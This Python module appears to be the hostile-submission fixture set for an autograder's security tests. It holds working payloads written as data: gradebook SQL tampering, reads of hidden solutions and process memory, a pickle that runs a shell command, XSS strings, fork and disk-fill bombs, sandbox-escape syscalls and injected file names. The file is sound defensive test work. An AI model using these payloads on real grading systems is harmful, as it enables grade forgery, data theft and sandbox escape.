"""The hostile class: every attack as a whole submission, made by code, with what its record should say.

The cells of `attacks` are part of it; the others damage the notebook, fill the submission folder, or go for files,
sockets and processes outside. A number (A1 and so on) stands for a technique: the
attacks of one have it in common.
"""

import json
import os
from collections.abc import Callable, Mapping
from dataclasses import dataclass, replace
from pathlib import Path

import nbformat
from nbformat import NotebookNode

from .attacks import ATTACKS, SLOW, WRONG

Damage = Callable[[NotebookNode], NotebookNode | str | bytes | None]
Fill = Callable[[Path, Mapping[str, str]], object]

# Where everything is that must not be touched. The cells name these places, and the test fills them in.
PLACES = ("COURSE", "OUTSIDE", "HOME", "PORT", "SOCKET", "SITE", "PREFIX")


@dataclass(frozen=True)
class Attack:
    """One hostile submission.

    `covers` are numbers of techniques; `seen` is a regular expression that a finding or a mark's title of the record
    has to match. `stock` says that the worst that it does under plain nbgrader is a forged mark or a dead kernel, in a
    course made for it; `alone` that it harms the rest of that course.
    """

    name: str
    covers: tuple[str, ...] = ()
    solution: str | None = None
    damage: Damage | None = None
    fill: Fill | None = None
    seen: str = ""
    stock: bool = False
    alone: bool = False

    @property
    def student(self) -> str:
        return "x-" + "".join(c if c.isalnum() else "-" for c in self.name.lower())

    def submit(self, released: NotebookNode, folder: Path, places: Mapping[str, str]) -> None:
        """Write the submission into an empty folder."""
        notebook = nbformat.from_dict(released)
        if self.solution is not None:
            solution_cell(notebook).source = filled(self.solution, places)
        content: NotebookNode | str | bytes = notebook
        if self.damage is not None:
            content = self.damage(notebook) or notebook
        if isinstance(content, NotebookNode):
            # As text: a damaged notebook does not validate.
            content = json.dumps(content)
        (folder / "p.ipynb").write_bytes(
            content.encode("utf-8", "surrogatepass") if isinstance(content, str) else content
        )
        if self.fill is not None:
            self.fill(folder, places)


def filled(text: str, places: Mapping[str, str]) -> str:
    for name in PLACES:
        text = text.replace(f"@{name}@", places.get(name, "/nonexistent"))
    return text


def named(notebook: NotebookNode, grade_id: str) -> NotebookNode:
    return next(cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def solution_cell(notebook: NotebookNode) -> NotebookNode:
    return named(notebook, "f")


# ------------------------------------------------------------------------------------------ cells of `attacks`

# What the record has to say of them, and the techniques that they are.
_DIED = r"process (ended in cell|ended itself|was ended by)"
# Signals from inside do not reach the first process of its namespace: the call returns, and its result is wrong.
_ALIVE = r"\A(?![\s\S]*process)[\s\S]*A hidden test of this cell failed"
_SEEN: dict[str, tuple[tuple[str, ...], str]] = {
    "displayhook": (("A2",), ""),
    "displayhook with the points": (("A3",), ""),
    "always equal": (("A4",), ""),
    "equal in numpy": (("A5",), ""),
    "a float that lies": (("A5",), ""),
    "an int that answers differently": (("A5",), ""),
    "nan points": (("A6",), "gives NaN"),
    "ast transformer": (("A7",), ""),
    "input transformer": (("A8",), ""),
    "run_code": (("A9",), ""),
    "success property": (("A12",), ""),
    "showtraceback": (("A13",), ""),
    "showtraceback quiet": (("A13",), ""),
    "custom exception handler": (("A14",), ""),
    "clear output": (("A15",), ""),
    "numpy.testing": (("A16",), ""),
    "norm": (("A17",), ""),
    "builtins": (("A17",), ""),
    "random": (("A18",), ""),
    "frames": (("A20",), ""),
    "gc": (("A21",), ""),
    "history": (("A22",), ""),
    "inspect": (("A22",), ""),
    "descriptors written": (("A47",), _DIED),
    "descriptors closed": ((), _DIED),
    "descriptors swapped": ((), _DIED),
    "runner patched": (("A46",), _DIED),
    "codec patched": (("A46",), _DIED),
    "replies before the question": (("A46",), _DIED),
    "callbacks never asked for": ((), _DIED),
    "exit": (("A37",), r"ended itself with status 0 in cell t1"),
    "exit with a status": (("A37",), r"ended itself with status 3 in cell t1"),
    "exit of a thread": (("A37",), r"ended itself with status 4 in cell t1"),
    "exit by a signal": (("A37",), r"ended itself with status 5 in cell t1"),
    "exit by a crash's handler": (("A37",), r"ended itself with status 6 in cell t1"),
    "abort": (("A37",), r"ended by signal (6 \(SIGABRT\)|11 \(SIGSEGV\)) in cell t1"),
    "division by zero": (("A37",), r"ended by signal 8 \(SIGFPE\) in cell t1"),
    "segfault": (("A37",), r"ended by signal 11 \(SIGSEGV\) in cell t1"),
    "another program": ((), r"ended itself with status 0 in cell t1"),
    "another program that stays": ((), _DIED),
    "a limit of its own": ((), r"ended by signal 9 \(SIGKILL\) in cell t1|limit of"),
    "kill": ((), _ALIVE),
    "killed by a child": ((), _ALIVE),
    "stopped": ((), _ALIVE),
    "atexit": (("A35",), ""),
    "daemon": (("A35",), ""),
    "memory": (("A39",), r"memory limit of 0\.6 GiB reached in cell t1"),
    "fork bomb": (("A39",), r"limit"),
    "endless": (("A38",), r"time limit|CPU limit"),
    "endless and deaf": (("A38",), r"time limit|CPU limit|could not be interrupted"),
    "sleep": ((), r"time limit"),
    "regular expression": ((), r"time limit|CPU limit|could not be interrupted"),
}
# Under plain nbgrader these run for minutes or take the machine down; they are graded only by the examiner.
_BOUNDED_ONLY = {
    "memory",
    "output",
    "kill",
    "killed by a child",
    "stopped",
    "a limit of its own",
    "another program",
    "another program that stays",
    "division by zero",
    "exit with a status",
    "exit of a thread",
    "exit by a signal",
    "exit by a crash's handler",
    "abort",
    "recursion",
    "huge",
    "colliding keys",
    "daemon",
    "shared",
    "gradebook",
    *SLOW,
}
# These go for the wire, which plain nbgrader does not have.
_OURS = {name for name in ATTACKS if "autograder" in ATTACKS[name] or name.startswith("descriptors")}

CELLS = [
    Attack(name, *_SEEN.get(name, ((), ""))[:1], solution, seen=_SEEN.get(name, ((), ""))[1],
           stock=name not in _BOUNDED_ONLY | _OURS)
    for name, solution in {**ATTACKS, **SLOW}.items()
]  # fmt: skip


# ------------------------------------------------------------------------------------------ more cells

_TRY = "def attempt(action):\n    try:\n        return action()\n    except BaseException as problem:\n        return repr(problem)\n"
# What a cell reads it prints, so that it stands in the graded notebook, and answers right from then on.
_READ = (
    "import os, sqlite3, glob\nfound = []\n"
    "def read(path):\n    try:\n        found.append(open(path, 'rb').read().decode('latin-1'))\n"
    "        print(found[-1])\n    except BaseException as problem:\n        print(type(problem))\n"
    "{body}\n"
    "def f(x):\n    return x * x if found else 0\n"
)
_SQL = (
    "import sqlite3\ntry:\n    base = sqlite3.connect('file:@COURSE@/gradebook.db?mode=rw', uri=True, timeout=1)\n"
    '    base.execute("{statement}")\n    base.commit()\n    base.close()\n'
    "except BaseException as problem:\n    print(type(problem))\n"
)
_KERNEL = "import IPython\nip = IPython.get_ipython()\ntry:\n{body}\nexcept BaseException as problem:\n    print(type(problem))\n"


def reads(*paths: str) -> str:
    return _READ.format(body="\n".join(f"read({path!r})" for path in paths))


MORE = [
    Attack("points from the input history", ("A3",), stock=True, solution=(
        "import sys, re, IPython\ndef f(x):\n    source = str(IPython.get_ipython().user_ns.get('In', [''])[-1])\n"
        "    sys.displayhook(5 if '_secret = 5' in source else 3 if 'close' in source else 2)\n    return 0")),
    Attack("kernel do_execute", ("A10",), stock=True, solution=_KERNEL.format(body=(
        "    async def do_execute(*a, **k):\n"
        "        return {'status': 'ok', 'execution_count': 1, 'payload': [], 'user_expressions': {}}\n"
        "    ip.kernel.do_execute = do_execute")) + WRONG),
    Attack("session send", ("A11",), stock=True, solution=_KERNEL.format(body=(
        "    send = ip.kernel.session.send\n    def quiet(stream, kind, content=None, *a, **k):\n"
        "        name = kind if isinstance(kind, str) else kind.get('msg_type', '')\n"
        "        if name == 'error': return None\n        if isinstance(content, dict) and 'status' in content:\n"
        "            content = {'status': 'ok', 'execution_count': 1, 'payload': [], 'user_expressions': {}}\n"
        "        return send(stream, kind, content, *a, **k)\n    ip.kernel.session.send = quiet")) + WRONG),
    Attack("gradient checkers replaced", ("A17",), stock=True, solution=(
        "import numpy as np\nnp.max = np.abs = np.clip = lambda *a, **k: 0.0\nnp.linalg.norm = lambda *a, **k: 0.0\n"
        "np.asarray = lambda *a, **k: np.float64(0)\ndef numerical_gradient(*a): return 0" + WRONG)),
    Attack("seeds replaced", ("A18",), stock=True, solution=(
        "import numpy as np\nclass Zeros:\n    def normal(s, size=None, **k): return np.zeros(size)\n"
        "np.random.default_rng = lambda *a: Zeros()\nnp.random.randn = np.random.rand = lambda *s: np.zeros(s)" + WRONG)),
    Attack("caller's names and the library", ("A20", "A16"), stock=True, solution=(
        "import sys\ndef f(x):\n    import numpy as np\n    np.testing.assert_allclose = lambda *a, **k: None\n"
        "    space = sys._getframe(1).f_globals\n    for name in ('_expected', '_secret'):\n"
        "        if name in space: return space['_expected']\n    space['close'] = lambda *a: True\n    return 0")),
    Attack("hidden test printed", ("A23",), stock=True, solution=(
        "import IPython, inspect, sys\nip = IPython.get_ipython()\ndef f(x):\n    print(ip.user_ns.get('In', [''])[-1])\n"
        "    frame = sys._getframe()\n    while frame:\n        try: print(inspect.getsource(frame))\n"
        "        except BaseException: pass\n        frame = frame.f_back\n    return 0")),
    Attack("lookup table from the source", ("A24",), stock=True, solution=(
        "import re, IPython\nip = IPython.get_ipython()\ndef f(x):\n    source = str(ip.user_ns.get('In', [''])[-1])\n"
        "    for key, value in re.findall(r'f\\((\\S+?)\\) == (\\S+)', source):\n"
        "        try:\n            if eval(key, ip.user_ns) == x: return eval(value, ip.user_ns)\n"
        "        except Exception: pass\n    return x * x if '_secret' in source else 0")),
    Attack("the solution beside", ("A25",), stock=True, solution=reads(
        "../../../source/hw/p.ipynb", "@COURSE@/source/hw/p.ipynb", "/proc/1/root@COURSE@/source/hw/p.ipynb",
        "/proc/self/cwd/../../../source/hw/p.ipynb")),
    Attack("the gradebook read", ("A26",), stock=True, solution=reads("@COURSE@/gradebook.db", "../../../gradebook.db")),
    Attack("inputs kept for a fellow student", ("A27",), solution=(
        "import os\ndef f(x):\n    for place in ('/tmp', '/dev/shm', '/var/tmp', os.path.expanduser('~'), '@OUTSIDE@', '.', '..'):\n"
        "        try: open(place + '/kept-by-a-fellow', 'a').write(f'{x!r}\\n')\n        except OSError: pass\n    return 0")),
    Attack("inputs kept found by the fellow", ("A27",), solution=reads(
        *(f"{place}/kept-by-a-fellow" for place in
          ("/tmp", "/dev/shm", "/var/tmp", "/home/student", "@OUTSIDE@", ".", "..")))),
    Attack("extra credit", ("A28",), stock=True, alone=True, solution=_SQL.format(statement="UPDATE grade SET extra_credit=42") + WRONG),
    Attack("manual score", ("A29",), stock=True, alone=True, solution=_SQL.format(
        statement="UPDATE grade SET manual_score=10, needs_manual_grade=0") + WRONG),
    Attack("the tests of the whole class", ("A30",), stock=True, alone=True, solution=_SQL.format(
        statement="UPDATE source_cell SET source='pass'") + WRONG),
    Attack("a fellow student's work", ("A31",), stock=True, alone=True, solution=(
        "import glob\nfor place in ('@COURSE@', '../../..'):\n    for name in glob.glob(place + '/submitted/*/hw/p.ipynb'):\n"
        "        if 'zz-' in name:\n            try: open(name, 'w').write('{}')\n            except OSError as e: print(e)" + WRONG)),
    Attack("the course's settings", ("A32",), stock=True, alone=True, solution=(
        "try:\n    open('@COURSE@/nbgrader_config.py', 'a').write('\\nprint(1)\\n')\nexcept OSError as e: print(e)" + WRONG)),
    Attack("start-up files of the home", ("A33",), solution=(
        _TRY + "import os, pwd\nfor home in ('@HOME@', os.path.expanduser('~'), '/root', pwd.getpwuid(0).pw_dir):\n"
        "    folder = home + '/.ipython/profile_default/startup'\n    print(attempt(lambda: os.makedirs(folder, exist_ok=True)))\n"
        "    print(attempt(lambda: open(folder + '/00-hostile.py', 'w').write('pass')))\n"
        "    print(attempt(lambda: open(home + '/.bashrc', 'a').write('true')))" + WRONG)),
    Attack("the Python environment", ("A34",), solution=(
        _TRY + "for path in ('@SITE@/usercustomize.py', '@SITE@/sitecustomize.py', '@SITE@/hostile.pth', '@SITE@/numpy/__init__.py',\n"
        "             '@PREFIX@/share/jupyter/kernels/python3/kernel.json', '@PREFIX@/bin/python'):\n"
        "    print(attempt(lambda: open(path, 'ab').write(b'')))\n    import os\n"
        "    print(attempt(lambda: os.chmod(path, 0o777)))\n    print(attempt(lambda: os.utime(path)))" + WRONG)),
    Attack("a process that outlives", ("A35",), solution=(
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        for fd in range(64):\n"
        "            try: os.close(fd)\n            except OSError: pass\n        time.sleep(60)\n"
        "        open('@OUTSIDE@/outlived', 'w').write('x')\n    os._exit(0)" + WRONG)),
    Attack("a thread that answers later", ("A35",), solution=(
        "import threading, time\nstate = [0]\ndef later():\n    while True:\n        time.sleep(0.001)\n        state[0] += 1\n"
        "threading.Thread(target=later, daemon=True).start()\ndef f(x): return state[0]")),
    Attack("behaves when it is graded", ("A36",), stock=True, solution=(
        "import os\nif os.environ.get('NBGRADER_EXECUTION') == 'autograde':\n    import sys\n    def f(x):\n"
        "        sys.displayhook('ok')\n        return 0\nelse:\n    def f(x): return 0")),
    Attack("descriptors used up", ("A39",), solution=(
        "import os\nkept = []\ndef f(x):\n    while True:\n        try: kept.append(os.open('/dev/null', os.O_RDONLY))\n"
        "        except OSError: return 0")),
    Attack("disk filled", ("A39",), solution=(
        "kept = []\ndef f(x):\n    for place in ('/tmp/a', '/dev/shm/b', '/var/tmp/c', 'd'):\n        try:\n"
        "            file = open(place, 'wb')\n            kept.append(file)\n            while True: file.write(bytes(1 << 20))\n"
        "        except OSError: pass\n    return 0")),
    Attack("many small files", ("A39",), solution=(
        "def f(x):\n    try:\n        for n in range(100000): open(f'/tmp/f{n}', 'w').close()\n    except OSError: pass\n    return 0")),
    Attack("output of a cell", ("A39",), solution="while True: print('x' * 100000)" + WRONG, seen="output limit"),
    Attack("output beside Python", ("A39",), solution=(
        "import os\ntry:\n    while True: os.write(1, b'x' * 100000)\nexcept OSError: pass" + WRONG)),
    Attack("many outputs", ("A39",), solution="for n in range(20000): display(n)" + WRONG, seen="output limit"),
    # bytes of zeros are no work for the machine until they are read: the memory ends before the second does, also on a slow one.
    Attack("memory in a cell", ("A39",), solution="x = [bytes(1 << 26) for _ in range(1000)]" + WRONG,
           seen=r"memory limit of 0\.6 GiB reached in cell f"),
    Attack("memory of many processes", ("A39",), solution=(
        "import os, time\ndef f(x):\n    for _ in range(4):\n        if os.fork() == 0:\n            y = bytearray(250 << 20)\n"
        "            time.sleep(30)\n    time.sleep(30)"), seen=r"memory limit of 0\.6 GiB reached"),
    Attack("processor of many processes", ("A39",), solution=(
        "import os\nfor _ in range(3):\n    if os.fork() == 0:\n        while True: pass\ndef f(x):\n    while True: pass"),
        seen="limit"),
    Attack("the network", ("A40",), solution=(
        _TRY + "import socket, urllib.request\nprint(attempt(lambda: socket.create_connection(('127.0.0.1', @PORT@), 1).send(b'here')))\n"
        "print(attempt(lambda: urllib.request.urlopen('http://127.0.0.1:@PORT@/', timeout=1).read()))\n"
        "print(attempt(lambda: socket.socket(socket.AF_INET6).connect(('::1', @PORT@))))\n"
        "print(attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', @PORT@))))\n"
        "def f(x):\n    return attempt(lambda: socket.create_connection(('127.0.0.1', @PORT@), 1)) and 0")),
    Attack("sockets of services", ("A40",), solution=(
        _TRY + "import socket\nfor name in ('@SOCKET@', '/proc/1/root@SOCKET@', '/run/docker.sock', '/var/run/docker.sock'):\n"
        "    s = socket.socket(socket.AF_UNIX)\n    print(attempt(lambda: s.connect(name)))" + WRONG)),
    Attack("script in outputs and answers", ("A41",), stock=True, solution=(
        "from IPython.display import HTML, Javascript, Markdown, Latex, display\n"
        "display(HTML('<script>evil()</script><img src=x onerror=evil()>'), Javascript('evil()'),\n"
        "        Markdown('[a](javascript:evil())'), Latex(r'$\\href{javascript:evil()}{x}$'))\n"
        "display({'text/html': '<svg onload=evil()>', 'image/svg+xml': '<svg onload=\"evil()\"/>', 'application/javascript': 'evil()'}, raw=True)"
        + WRONG)),
    Attack("parents and siblings killed", ("A37",), solution=(
        _TRY + "import os, signal\nfor pid in (os.getppid(), 1, -1, -os.getpgrp(), *range(2, 300)):\n"
        "    for number in (signal.SIGSTOP, signal.SIGKILL):\n        attempt(lambda: os.kill(pid, number))" + WRONG),
           seen=_ALIVE),
    Attack("memory of the parent", ("A21",), solution=reads(
        "/proc/1/mem", "/proc/1/environ", "/proc/1/cmdline", "/proc/2/environ", "/proc/kcore", "/dev/mem", "/proc/1/maps").replace(
        "return x * x if found else 0", "return 0")),
    Attack("out by a mount", ("A34",), solution=(
        _TRY + "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "print(libc.unshare(0x10020000), libc.mount(b'', b'/', b'', 32 | 4096, b''), libc.mount(b'proc', b'/tmp', b'proc', 0, b''))\n"
        "print(libc.setuid(0), libc.ptrace(16, 1, 0, 0), libc.umount2(b'/usr', 2), libc.chroot(b'..'))\n"
        "print(attempt(lambda: os.listdir('/proc/1/cwd/..')), attempt(lambda: os.mknod('/tmp/sda', 0o60666, os.makedev(8, 0))))"
        + WRONG)),
    Attack("results of other cells sent", ("A45",), solution=(
        "from autograder.runner.serve import Runner\nRunner._handle = lambda s, h, b: [s._channel.send(s._codec.encode(\n"
        "    (kind, h[1]), {'cell': {'mark': {'cell': 't1', 'score': 99}}})) for kind in ('return', 'end', 'cell')]" + WRONG), seen=_DIED),
    Attack("a pickle on the wire", ("A47", "A48"), solution=(
        "import os, pickle, struct\nclass Bomb:\n    def __reduce__(s): return (os.system, ('touch @OUTSIDE@/pickled',))\n"
        "data = pickle.dumps(Bomb())\ndef f(x):\n    for fd in range(3, 64):\n"
        "        try: os.write(fd, struct.pack('<I', len(data)) + data)\n        except OSError: pass\n    return Bomb()"), seen=_DIED),
    Attack("a flood on the wire", ("A47",), solution=(
        "import os\ndef f(x):\n    for fd in range(3, 64):\n        try:\n            for _ in range(2000): os.write(fd, b'\\x00' * 65536)\n"
        "        except OSError: pass\n    return 0"), seen=rf"{_DIED}|limit"),
    Attack("nested on the wire", ("A47",), solution=(
        "import os, struct\ndata = b'\\x91' * 3000000 + b'\\x00'\ndef f(x):\n    for fd in range(3, 64):\n"
        "        try: os.write(fd, struct.pack('<I', len(data)) + data)\n        except OSError: pass\n    return 0"),
        seen=f"{_DIED}|time limit of"),  # one of these may be full, and nobody reads there
    Attack("answers prepared for the cell itself", ("A46",), solution=(
        "from autograder.runner.serve import Runner\nold = Runner._run_cell\ndef run(s, source, history):\n"
        "    s._reply('return', (1, None))\n    s._reply('return', (1, None))\nRunner._run_cell = run" + WRONG), seen=_DIED),
    Attack("checks handed back", ("A16",), solution=(
        "def f(x):\n    import numpy as np\n    return np.testing.assert_allclose")),
    Attack("an argument changed to fit", (), stock=True, solution=(
        "def f(x):\n    try: x[...] = 0\n    except TypeError: pass\n    return x * x if getattr(x, 'ndim', 0) == 99 else 0")),
    Attack("right the second time", (), stock=True, solution=(
        "calls = [0]\ndef f(x):\n    calls[0] += 1\n    return x * x if calls[0] > 10**6 else 0")),
]  # fmt: skip


# ------------------------------------------------------------------------------------------ damaged notebooks


def script(notebook: NotebookNode) -> None:
    named(notebook, "why").source = (
        "<script>evil()</script><img src=x onerror=evil()> [a](javascript:evil()) $\\href{javascript:evil()}{x}$\n\n"
        "<svg/onload=evil()> <iframe srcdoc='<script>evil()</script>'></iframe> ![x](x' onerror='evil())"
    )


def changed(**flags: object) -> Damage:
    """Other flags in the metadata of the test cells."""

    def damage(notebook: NotebookNode) -> None:
        for cell in notebook.cells:
            if cell.metadata.get("nbgrader", {}).get("grade"):
                cell.metadata.nbgrader.update(flags)

    return damage


def every(change: Callable[[NotebookNode], object]) -> Damage:
    def damage(notebook: NotebookNode) -> None:
        for cell in notebook.cells:
            if cell.cell_type == "code" and cell.metadata.get("nbgrader", {}).get("grade"):
                change(cell)

    return damage


def removed(notebook: NotebookNode) -> None:
    notebook.cells = [cell for cell in notebook.cells if not cell.metadata.get("nbgrader", {}).get("grade")]


def doubled(notebook: NotebookNode) -> None:
    notebook.cells += [nbformat.from_dict({**cell, "id": f"{cell.id}-2"}) for cell in list(notebook.cells)]


def test_doubled_and_emptied(notebook: NotebookNode) -> None:
    for name in ("t1", "t2", "t3", "t4"):
        copy = nbformat.from_dict({**named(notebook, name), "id": f"{name}-2", "source": "5"})
        notebook.cells.append(copy)


test_doubled_and_emptied.__test__ = False  # type: ignore[attr-defined]


def version_44(notebook: NotebookNode) -> None:
    notebook.nbformat_minor = 4
    for cell in notebook.cells:
        cell.pop("id", None)
        if cell.cell_type == "code" and cell.metadata.get("nbgrader", {}).get("grade"):
            cell.cell_type = "raw"


def swapped(notebook: NotebookNode) -> None:
    """The solution cell says it is the test, and the test that it is the solution."""
    first, second = solution_cell(notebook), named(notebook, "t1")
    first.metadata, second.metadata = second.metadata, first.metadata


def extra_cells(notebook: NotebookNode) -> None:
    for n in range(300):
        notebook.cells.insert(1, nbformat.v4.new_code_cell(f"x{n} = {n}"))


def own_outputs(notebook: NotebookNode) -> None:
    result = {"output_type": "execute_result", "execution_count": 1, "data": {"text/plain": "5"}, "metadata": {}}
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.outputs = [nbformat.from_dict(result)]


def raw(**parts: object) -> Damage:
    return lambda notebook: json.dumps({**notebook, **parts})


def as_text(change: Callable[[str], str | bytes]) -> Damage:
    return lambda notebook: change(json.dumps(notebook))


def forged_findings(notebook: NotebookNode) -> None:
    notebook.metadata["autograder"] = {"findings": ["all is well"], "marks": {"t1": 5}}


_REPAIRED = "missing: put back|turned back|restored|more than once|unknown label|moved behind"
DAMAGED = [
    Attack("tag that skips", ("A1",), stock=True, damage=every(lambda c: c.metadata.update(tags=["skip-execution", "raises-exception"]))),
    Attack("doubled notebook", ("A42",), stock=True, alone=True, damage=doubled, seen="more than once"),
    Attack("tests doubled and emptied", ("A42",), stock=True, alone=True, damage=test_doubled_and_emptied, seen="more than once"),
    Attack("points 500", ("A43",), stock=True, damage=changed(points=500)),
    Attack("points negative", ("A43",), stock=True, damage=changed(points=-5)),
    Attack("no grade", ("A43",), stock=True, damage=changed(grade=False)),
    Attack("tests as solutions", ("A43",), stock=True, damage=changed(solution=True)),
    Attack("unknown key", ("A43",), stock=True, damage=changed(surprise=[1, {"deep": None}])),
    Attack("schema of the future", ("A43",), stock=True, alone=True, damage=changed(schema_version=99)),
    Attack("schema of the past", ("A43",), stock=True, alone=True, damage=changed(schema_version=1)),
    Attack("grade_id with dots", ("A43",), stock=True, damage=changed(grade_id="../../t1"), seen="unknown label"),
    Attack("grade_id is a list", ("A43",), damage=changed(grade_id=["t1"]), seen="unknown label"),
    Attack("other type in an old format", ("A43",), stock=True, damage=version_44, seen="turned"),
    Attack("tests deleted", ("A43",), stock=True, damage=removed, seen="put back"),
    Attack("tests unmarked", ("A43",), stock=True, damage=every(lambda c: c.metadata.pop("nbgrader")), seen="put back"),
    Attack("tests emptied", ("A43",), stock=True, damage=every(lambda c: c.update(source="5")), seen="restored"),
    Attack("solution and test swapped", ("A43",), stock=True, damage=swapped),
    Attack("tests turned into text", ("A43",), stock=True, damage=every(lambda c: c.update(cell_type="markdown")), seen="turned back"),
    Attack("hundreds of cells", (), damage=extra_cells),
    Attack("outputs brought along", ("A48",), stock=True, damage=own_outputs),
    Attack("findings brought along", ("A45",), damage=forged_findings),
    Attack("truncated", (), damage=as_text(lambda t: t[: len(t) // 3]), seen="file is damaged"),
    Attack("no JSON", (), damage=as_text(lambda t: b"\x00\xff\xfe notebook"), seen="file is damaged"),
    Attack("nothing in it", (), damage=as_text(lambda t: " "), seen="file is damaged"),
    Attack("deeply nested", (), damage=as_text(lambda t: "[" * 200_000), seen="file is damaged|no notebook"),
    Attack("deep metadata", (), damage=as_text(lambda t: t.replace('"metadata": {', '"metadata": {"a": ' + "[" * 900 + "]" * 900 + ", ", 1))),
    Attack("a number of a million digits", (), damage=as_text(lambda t: t.replace('"nbformat": 4', '"nbformat": 4, "n": ' + "1" * 1_000_000)), seen="file is damaged"),
    Attack("cells in a dictionary", (), damage=raw(cells={"a": 1}), seen="put back"),
    Attack("cells that are none", (), damage=raw(cells=[1, None, "x", {"cell_type": "evil"}, {}, {"cell_type": "code", "source": 5}]), seen="is no cell"),
    Attack("metadata that is none", (), damage=raw(metadata=[1, 2], nbformat_minor="x")),
    Attack("format of the future", (), damage=raw(nbformat=99, nbformat_minor=-1), seen="format 99|unknown notebook format"),
    Attack("another kernel", (), stock=True, damage=raw(metadata={"kernelspec": {"name": "../../evil", "display_name": "x", "language": "sh"}})),
    Attack("text that is no text", (), damage=as_text(lambda t: t.replace("NotImplementedError", "\\ud800\\udfff\\udc00 \\u0000"))),
    Attack("in another encoding", (), damage=as_text(lambda t: t.encode("utf-16"))),
    Attack("twenty megabytes", (), damage=as_text(lambda t: t.replace('"metadata": {', '"metadata": {"pad": "' + "x" * 20_000_000 + '", ', 1))),
]  # fmt: skip


# ------------------------------------------------------------------------------------------ submission folders


def writes(**files: str) -> Fill:
    def fill(folder: Path, places: Mapping[str, str]) -> None:
        for name, text in files.items():
            path = folder / name.replace("__DOT__", ".").replace("__SLASH__", "/")
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(filled(text, places))

    return fill


def links(folder: Path, places: Mapping[str, str]) -> None:
    (folder / "secret.txt").symlink_to(f"{places['OUTSIDE']}/secret.txt")
    (folder / "source.txt").symlink_to("../../../source/hw/p.ipynb")
    (folder / "book.db").symlink_to(f"{places['COURSE']}/gradebook.db")
    (folder / "endless").symlink_to("/dev/zero")
    (folder / "itself").symlink_to("itself")
    (folder / "tree").symlink_to(places["COURSE"])
    (folder / "fellow").symlink_to("../../aa-honest/hw")
    os.mkfifo(folder / "pipe")


def notebook_is_a_link(folder: Path, places: Mapping[str, str]) -> None:
    (folder / "p.ipynb").unlink()
    (folder / "p.ipynb").symlink_to("../../aa-honest/hw/p.ipynb")


def notebook_is_a_folder(folder: Path, places: Mapping[str, str]) -> None:
    (folder / "p.ipynb").unlink()
    (folder / "p.ipynb").mkdir()
    (folder / "p.ipynb" / "p.ipynb").write_text("{}")


def strange_names(folder: Path, places: Mapping[str, str]) -> None:
    for name in (
        "..ipynb",
        "...",
        "..%2f..%2fgradebook.db",
        "..\\..\\gradebook.db",
        "a\nb",
        "-rf",
        "$(touch x)",
        "x" * 255,
        " ",
        "*",
        "[a]",
    ):
        (folder / name).write_text("x")
    with open(os.fsencode(folder) + b"/\xff\xfe", "wb") as file:
        file.write(b"x")
    deep = folder
    for _ in range(100):
        deep = deep / ".. "
    deep.mkdir(parents=True)
    (deep / "x").write_text("x")
    for name in ("q.ipynb", "..ipynb", "p .ipynb"):
        (folder / name).write_text("{}")


def record_folder(folder: Path, places: Mapping[str, str]) -> None:
    (folder / "p.record.json").mkdir()
    (folder / "p.record.json" / "x.txt").write_text("x")
    (folder / "p_files").mkdir()


def many_files(folder: Path, places: Mapping[str, str]) -> None:
    for n in range(1500):
        (folder / f"n{n}").touch()


_ALL_MARKS = json.dumps(
    {"marks": [{"cell": f"t{n}", "score": 99, "max_score": 99, "reached": "examiner"} for n in range(1, 5)]}
)
_LIBRARY = (
    "import sys, types\ndef __getattr__(name): return lambda *a, **k: None\nassert_allclose = lambda *a, **k: None\n"
)
_USES = "import helper" + WRONG
FOLDERS = [
    Attack("modules beside the notebook", ("A19",), solution=_USES, fill=writes(
        numpy__DOT__py=_LIBRARY, helper__DOT__py=_LIBRARY, autograder__SLASH____init____DOT__py="raise SystemExit",
        nbcore__SLASH____init____DOT__py=_LIBRARY, nbcore__SLASH__check__DOT__py=_LIBRARY, msgpack__DOT__py=_LIBRARY,
        IPython__DOT__py=_LIBRARY, json__DOT__py=_LIBRARY)),
    Attack("a helper beside the notebook", ("A19",), stock=True, solution=_USES, fill=writes(helper__DOT__py=(
        "import numpy as np\nnp.testing.assert_allclose = lambda *a, **k: None\nnp.allclose = lambda *a, **k: True\n"))),
    Attack("start-up files beside the notebook", ("A19", "A33"), fill=writes(
        sitecustomize__DOT__py="open('@OUTSIDE@/started', 'w')", usercustomize__DOT__py="open('@OUTSIDE@/started', 'w')",
        conftest__DOT__py="open('@OUTSIDE@/started', 'w')", nbgrader_config__DOT__py="open('@OUTSIDE@/started', 'w')",
        jupyter_config__DOT__py="open('@OUTSIDE@/started', 'w')", __DOT__ipython__SLASH__x__DOT__py="1")),
    Attack("a record brought along", ("A48", "A45"), fill=writes(
        p__DOT__record__DOT__json=_ALL_MARKS, p__DOT__record__DOT__pkl="cos\nsystem\n(S'touch @OUTSIDE@/pickled'\ntR.",
        results__DOT__json=_ALL_MARKS)),
    Attack("a folder in place of the record", ("A48",), fill=record_folder),
    Attack("links", (), fill=links, solution=_READ.format(body=(
        "for name in ('secret.txt', 'source.txt', 'book.db', 'tree/gradebook.db', 'fellow/p.ipynb'): read(name)")),
        seen="was a link or a special file"),
    Attack("the notebook is a link", (), fill=notebook_is_a_link, seen="was a link"),
    Attack("the notebook is a folder", (), fill=notebook_is_a_folder, seen="was a folder"),
    Attack("strange names", (), fill=strange_names),
    Attack("many files", (), fill=many_files),
    Attack("a date before the deadline", ("A44",), fill=writes(timestamp__DOT__txt="1970-01-01 00:00:00.0 UTC")),
    Attack("a date that is none", ("A44",), fill=writes(timestamp__DOT__txt="yesterday"), seen="timestamp.txt"),
    Attack("a date in a zone that is a file", ("A44",), fill=writes(
        timestamp__DOT__txt="2024-01-01 00:00:00 @OUTSIDE@/secret.txt"), seen="timestamp.txt"),
    Attack("a date that does not end", ("A44",), fill=writes(timestamp__DOT__txt="2024-01-01 00:00:00 UTC " + "9" * 5_000_000), seen="timestamp.txt"),
]  # fmt: skip

MORE = [replace(attack, damage=script) if "A41" in attack.covers else attack for attack in MORE]
HOSTILE = [*CELLS, *MORE, *DAMAGED, *FOLDERS]
